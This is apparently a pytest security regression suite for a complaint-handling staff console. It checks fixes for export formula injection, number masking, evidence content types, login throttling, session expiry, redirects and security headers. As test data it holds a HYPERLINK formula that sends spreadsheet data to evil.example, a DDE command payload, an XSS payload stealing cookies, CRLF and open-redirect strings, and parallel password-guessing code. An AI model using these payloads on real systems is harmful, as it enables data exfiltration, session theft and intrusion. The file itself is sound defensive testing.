"""Attacks on the staff console and API from the security review (issue 14), kept fixed.

Each test reproduces one finding: formula injection in exports, numbers shown unmasked in
free text, evidence served with the media API's type, a login throttle raced by parallel
guesses and sprayed over usernames, sessions that outlive logout, CR/LF in ``?next=``,
missing security headers, assignment to a deactivated account, a doubled CSV charset.
"""

from __future__ import annotations

import csv
import io
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook
from sqlalchemy import select

import console.auth
from console import masking, views_auth
from models import AuditEntry, CaseWork, Complaint, Evidence, Message, StaffUser, utcnow
from models.db import get_session
from tests.console_fixtures import PASSWORD, add_complaint, add_staff, csrf_token, login

pytestmark = pytest.mark.security

CASE = "AX20261202001"
URL = f"/console/complaints/{CASE}"
PHONE_SPACED = "138 1234 5678"
ID_NUMBER = "320402199001011234"
WITH_NUMBERS = f"我的电话是{PHONE_SPACED}，身份证{ID_NUMBER}，老板欠了三万"


def _login_hotline(app: Flask, client: FlaskClient, **fields: Any) -> int:
    """A logged-in hotline user and one case; return the case's complaint id."""
    add_staff(app, "li", "hotline")
    complaint_id = add_complaint(app, CASE, **fields)
    assert login(client, "li").status_code == 302
    return complaint_id


def _add_message(app: Flask, complaint_id: int, content: str, **fields: Any) -> None:
    with app.app_context():
        session = get_session()
        complaint = session.get(Complaint, complaint_id)
        assert complaint is not None
        session.add(
            Message(
                worker_id=complaint.worker_id,
                direction="in",
                msg_type="text",
                content=content,
                **fields,
            )
        )
        session.commit()


def _reveals(app: Flask) -> list[tuple[str | None, str | None]]:
    with app.app_context():
        entries = get_session().scalars(select(AuditEntry).where(AuditEntry.action == "reveal"))
        return [(e.target, e.detail) for e in entries]


def _assert_masked(page: str) -> None:
    assert PHONE_SPACED not in page and "13812345678" not in page
    assert ID_NUMBER not in page
    assert "138****5678" in page and "320***********1234" in page


# --- 4. Formula injection in exports -------------------------------------------------------

FORMULAS = {
    "employer": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "contact_name": "+cmd|' /C calc'!A0",
    "description": "@SUM(A1:A9)",
    "project_name": "-2+3",
    "work_type": "\t=1+1",
    "contractor": "\r=1+1",
    "project_address": '＝HYPERLINK("http://evil.example")',
}


def _export(client: FlaskClient, fmt: str) -> Any:
    response = client.get(f"/console/complaints?format={fmt}")
    assert response.status_code == 200
    return response


def test_csv_export_neutralises_formulas_and_keeps_numbers(app: Flask, client: FlaskClient) -> None:
    _login_hotline(app, client, amount_recovered=Decimal("-5"), **FORMULAS)
    text = _export(client, "csv").get_data().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    for name in ("用人单位", "投诉人姓名", "情况说明", "项目名称", "工种", "包工头", "项目地址"):
        assert cells[name].startswith("'"), (name, cells[name])
    assert cells["用人单位"] == "'" + FORMULAS["employer"]  # the text itself is kept
    # Legitimate values are not spoilt: a phone, an amount, a negative number.
    assert cells["联系电话"] == "13812345678" and cells["身份证号"] == ID_NUMBER
    assert cells["欠薪金额（元）"] == "35000" and cells["欠薪人数"] == "5"
    assert cells["追回金额（元）"] == "-5"


def test_xlsx_export_has_no_formula_cells_and_numbers_stay_numeric(
    app: Flask, client: FlaskClient
) -> None:
    _login_hotline(app, client, amount_recovered=Decimal("-5"), **FORMULAS)
    book = load_workbook(io.BytesIO(_export(client, "xlsx").get_data()))
    sheet = book.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert not [c.coordinate for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    for name in ("用人单位", "投诉人姓名", "情况说明", "项目名称", "工种", "包工头", "项目地址"):
        assert row[name].data_type == "s" and str(row[name].value).startswith("'"), name
    assert row["联系电话"].data_type == "s" and row["联系电话"].value == "13812345678"
    assert row["欠薪金额（元）"].data_type == "n" and row["欠薪金额（元）"].value == 35000
    assert row["欠薪人数"].value == 5 and row["追回金额（元）"].value == -5


# --- 6. Phone and ID numbers in free text ----------------------------------------------------


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("电话13812345678。", "电话138****5678。"),
        ("电话 138-1234-5678", "电话 138****5678"),
        ("+86 138 1234 5678", "138****5678"),
        ("身份证32040219900101123X号", "身份证320***********123X号"),
        ("欠了35000元，干了90天", "欠了35000元，干了90天"),
        ("单号202611260001234567890", "单号202611260001234567890"),  # too long for either
    ],
)
def test_numbers_in_free_text_are_masked(text: str, masked: str) -> None:
    assert masking.mask_text(text) == masked


def test_masking_free_text_is_linear() -> None:
    started = time.perf_counter()
    for text in ("1" * 200_000, "138 " * 50_000, "1381234567 " * 20_000):
        masking.mask_text(text)
    assert time.perf_counter() - started < 2.0


def test_case_page_masks_numbers_in_free_text_until_an_audited_reveal(
    app: Flask, client: FlaskClient
) -> None:
    complaint_id = _login_hotline(app, client, description=WITH_NUMBERS)
    _add_message(app, complaint_id, WITH_NUMBERS)
    _assert_masked(client.get(URL).get_data(as_text=True))
    assert _reveals(app) == []
    token = csrf_token(client, URL)
    page = client.post(URL + "/reveal/texts", data={"csrf_token": token}).get_data(as_text=True)
    assert PHONE_SPACED in page and ID_NUMBER in page
    assert _reveals(app) == [(CASE, "texts")]


def test_worker_page_masks_numbers_until_an_audited_reveal(app: Flask, client: FlaskClient) -> None:
    complaint_id = _login_hotline(app, client)
    _add_message(app, complaint_id, WITH_NUMBERS)
    with app.app_context():
        complaint = get_session().get(Complaint, complaint_id)
        assert complaint is not None
        worker_id = complaint.worker_id
    path = f"/console/workers/{worker_id}"
    _assert_masked(client.get(path).get_data(as_text=True))
    token = csrf_token(client, path)
    page = client.post(path + "/reveal", data={"csrf_token": token}).get_data(as_text=True)
    assert PHONE_SPACED in page and ID_NUMBER in page
    assert _reveals(app) == [(f"worker:{worker_id}", "texts")]


def test_review_queue_masks_numbers_until_an_audited_reveal(
    app: Flask, client: FlaskClient
) -> None:
    complaint_id = _login_hotline(app, client)
    _add_message(app, complaint_id, WITH_NUMBERS, intent="nlu_fallback", confidence=0.2)
    _assert_masked(client.get("/console/review").get_data(as_text=True))
    token = csrf_token(client, "/console/review")
    response = client.post("/console/review/reveal", data={"csrf_token": token})
    page = response.get_data(as_text=True)
    assert PHONE_SPACED in page and ID_NUMBER in page
    assert 'action="/console/review"' in page  # labelling still posts to the queue
    assert _reveals(app) == [("review", "texts")]


def test_revealing_needs_the_csrf_token(app: Flask, client: FlaskClient) -> None:
    _login_hotline(app, client)
    assert client.post(URL + "/reveal/texts").status_code == 400
    assert _reveals(app) == []


# --- 8. Evidence types -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stored_type", "served_type", "inline"),
    [
        ("image/jpeg", "image/jpeg", True),
        ("audio/amr", "audio/amr", True),
        ("text/html", "application/octet-stream", False),
        ("image/svg+xml", "application/octet-stream", False),
        ("application/xhtml+xml; charset=utf-8", "application/octet-stream", False),
        (None, "application/octet-stream", False),
    ],
)
def test_evidence_is_inline_only_for_media_types(
    app: Flask,
    client: FlaskClient,
    tmp_path: Path,
    stored_type: str | None,
    served_type: str,
    inline: bool,
) -> None:
    complaint_id = _login_hotline(app, client)
    app.config["MEDIA_DIR"] = str(tmp_path)
    (tmp_path / "file").write_bytes(b"<svg onload=alert(document.cookie)><script>x</script>")
    with app.app_context():
        session = get_session()
        message = session.scalar(select(Message))
        assert message is not None
        evidence = Evidence(
            complaint_id=complaint_id,
            message_id=message.id,
            kind="image",
            storage_path=str(tmp_path / "file"),
            content_type=stored_type,
            download_status="stored",
        )
        session.add(evidence)
        session.commit()
        evidence_id = evidence.id
    response = client.get(f"/console/evidence/{evidence_id}")
    assert response.status_code == 200 and response.mimetype == served_type
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers.get("Content-Disposition", "")
    assert disposition.startswith("inline" if inline else "attachment"), disposition
    assert "no-store" in response.headers["Cache-Control"]
    response.close()


# --- 10. The login throttle ------------------------------------------------------------------


def test_parallel_guesses_reach_the_password_check_at_most_the_limit(
    app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_staff(app, "li", "hotline")
    checked: list[str] = []
    lock = threading.Lock()
    real_check = views_auth.check_password

    def counting_check(user: StaffUser | None, password: str) -> bool:
        with lock:
            checked.append(password)
        return real_check(user, password)

    monkeypatch.setattr(views_auth, "check_password", counting_check)
    parallel = 20
    clients = [app.test_client() for _ in range(parallel)]
    tokens = [csrf_token(c, "/console/login") for c in clients]
    start = threading.Barrier(parallel)

    def guess(i: int) -> int:
        data = {"username": "li", "password": f"guess-{i}", "csrf_token": tokens[i]}
        start.wait()
        return clients[i].post("/console/login", data=data).status_code

    with ThreadPoolExecutor(parallel) as pool:
        codes = list(pool.map(guess, range(parallel)))
    limit = app.config["LOGIN_MAX_ATTEMPTS"]
    assert 1 <= len(checked) <= limit, (len(checked), codes)
    assert codes.count(401) == len(checked) and codes.count(429) == parallel - len(checked)


def test_one_address_cannot_spray_many_usernames(app: Flask, client: FlaskClient) -> None:
    app.config["LOGIN_ADDRESS_MAX_ATTEMPTS"] = 6
    add_staff(app, "li", "hotline")
    for i in range(6):  # one guess per username: the per-username limit never trips
        assert login(client, f"user{i}", "Winter2026!").status_code == 401
    blocked = login(client, "li")  # even a right password waits while the address is blocked
    assert blocked.status_code == 429 and "登录失败次数过多" in blocked.get_data(as_text=True)
    elsewhere = app.test_client()
    elsewhere.environ_base["REMOTE_ADDR"] = "10.0.0.2"
    assert login(elsewhere, "li").status_code == 302


def test_a_right_password_clears_only_its_own_failures(app: Flask, client: FlaskClient) -> None:
    add_staff(app, "li", "hotline")
    for _ in range(app.config["LOGIN_MAX_ATTEMPTS"] - 1):
        assert login(client, "li", "wrong-password").status_code == 401
    assert login(client, "li").status_code == 302
    client.post("/console/logout", data={"csrf_token": csrf_token(client, "/console/")})
    for _ in range(app.config["LOGIN_MAX_ATTEMPTS"]):
        assert login(client, "li", "wrong-password").status_code == 401
    assert login(client, "li").status_code == 429


# --- 11. Sessions end on logout, new password, deactivation and when idle ---------------------


def _copied_session(app: Flask, client: FlaskClient) -> FlaskClient:
    """Another browser holding a copy of ``client``'s session cookie."""
    cookie = client.get_cookie("session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    assert thief.get("/console/").status_code == 200
    return thief


def test_logout_ends_a_copied_session(app: Flask, client: FlaskClient) -> None:
    add_staff(app, "li", "hotline")
    login(client, "li")
    thief = _copied_session(app, client)
    client.post("/console/logout", data={"csrf_token": csrf_token(client, "/console/")})
    response = thief.get("/console/complaints")
    assert response.status_code == 302 and "/console/login" in response.headers["Location"]
    assert login(client, "li").status_code == 302  # logging in again works
    assert client.get("/console/").status_code == 200
    assert thief.get("/console/").status_code == 302


@pytest.mark.parametrize(
    "command",
    [
        ["staff", "password", "li"],
        ["staff", "deactivate", "li"],
    ],
)
def test_new_password_or_deactivation_ends_sessions(
    app: Flask, client: FlaskClient, runner: FlaskCliRunner, command: list[str]
) -> None:
    add_staff(app, "li", "hotline")
    login(client, "li")
    assert client.get("/console/").status_code == 200
    new = "another-long-password"
    result = runner.invoke(args=command, input=f"{new}\n{new}\n")
    assert result.exit_code == 0, result.output
    assert client.get("/console/").status_code == 302
    if command[1] == "password":
        assert login(client, "li").status_code == 401  # the old password is gone
        assert login(client, "li", new).status_code == 302


def test_an_idle_session_ends(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_staff(app, "li", "hotline")
    login(client, "li")
    later = timedelta()
    monkeypatch.setattr(console.auth, "utcnow", lambda: utcnow() + later)
    idle = app.config["CONSOLE_IDLE_MINUTES"]
    assert idle == 30
    later = timedelta(minutes=idle - 1)
    assert client.get("/console/").status_code == 200  # in use: the clock starts again
    later = timedelta(minutes=2 * idle - 2)
    assert client.get("/console/").status_code == 200
    later = timedelta(minutes=3 * idle)
    response = client.get("/console/")
    assert response.status_code == 302 and "/console/login" in response.headers["Location"]
    assert client.get("/console/").status_code == 302  # and it stays ended


# --- 14. Unsafe ?next= -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/console/%0d%0aSet-Cookie:%20evil=1",
        "/console/%0aLocation:%20https://evil.example/",
        "/console/%09",
        "https://evil.example/console/",
        "//evil.example/console/",
        "/console/\\evil.example",
    ],
)
def test_unsafe_next_goes_to_the_console_home(app: Flask, client: FlaskClient, target: str) -> None:
    add_staff(app, "li", "hotline")
    token = csrf_token(client, "/console/login")
    data = {"username": "li", "password": PASSWORD, "csrf_token": token}
    response = client.post(f"/console/login?next={target}", data=data)
    assert response.status_code == 302 and response.headers["Location"] == "/console/"


# --- 15. Headers, caching, assignment, CSV type ---------------------------------------------


def _assert_security_headers(response: Any, referrer: str = "same-origin") -> None:
    headers = response.headers
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    # The console keeps same-origin referrers: Flask-WTF needs them for forms over HTTPS.
    assert headers["Referrer-Policy"] == referrer


def test_console_pages_carry_security_headers_and_are_not_cached(
    app: Flask, client: FlaskClient
) -> None:
    _assert_security_headers(client.get("/console/login"))
    _assert_security_headers(client.get("/console/no-such-page"))
    _login_hotline(app, client)
    for path in ("/console/", URL, "/console/complaints", "/console/complaints?format=csv"):
        response = client.get(path)
        assert response.status_code == 200, path
        _assert_security_headers(response)
        assert "no-store" in response.headers["Cache-Control"], path


def test_api_responses_carry_security_headers_and_are_not_cached(
    app: Flask, client: FlaskClient, runner: FlaskCliRunner
) -> None:
    add_staff(app, "li", "hotline")
    add_complaint(app, CASE)
    refused = client.get("/api/complaints")
    assert refused.status_code == 401
    _assert_security_headers(refused, "no-referrer")
    token = runner.invoke(args=["staff", "token", "li"]).output.strip()
    response = client.get("/api/complaints", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200 and response.get_json()["count"] == 1
    _assert_security_headers(response, "no-referrer")
    assert "no-store" in response.headers["Cache-Control"]


def test_csv_content_type_carries_its_charset_once(app: Flask, client: FlaskClient) -> None:
    _login_hotline(app, client)
    response = client.get("/console/complaints?format=csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_a_case_cannot_be_assigned_to_a_deactivated_account(
    app: Flask, client: FlaskClient
) -> None:
    _login_hotline(app, client, status="accepted")
    gone = add_staff(app, "wang", "hotline")
    with app.app_context():
        session = get_session()
        user = session.get(StaffUser, gone)
        assert user is not None
        user.active = False
        session.commit()
    data = {"csrf_token": csrf_token(client, URL), "action": "assign", "assignee": str(gone)}
    page = client.post(URL + "/action", data=data, follow_redirects=True).get_data(as_text=True)
    assert "已停用" in page and "不能分派" in page
    with app.app_context():
        session = get_session()
        work = session.scalar(select(CaseWork))
        complaint = session.scalar(select(Complaint))
        assert work is None or work.assigned_staff_id is None
        assert complaint is not None and complaint.status == "accepted"
